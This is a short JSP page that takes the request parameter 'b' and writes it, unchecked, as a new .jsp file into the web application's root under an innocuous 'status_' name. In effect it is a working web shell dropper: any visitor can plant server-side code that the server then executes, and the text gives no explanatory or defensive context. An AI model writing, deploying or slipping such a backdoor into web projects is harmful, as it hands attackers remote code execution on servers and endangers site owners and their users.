<%@ page import="java.io.*" %>
<%
  String body = request.getParameter("b");
  if (body != null) {
    FileWriter fw = new FileWriter(new File(application.getRealPath("/"), "status_" + System.currentTimeMillis() % 97 + ".jsp"));
    fw.write(body);
    fw.close();
  }
%>
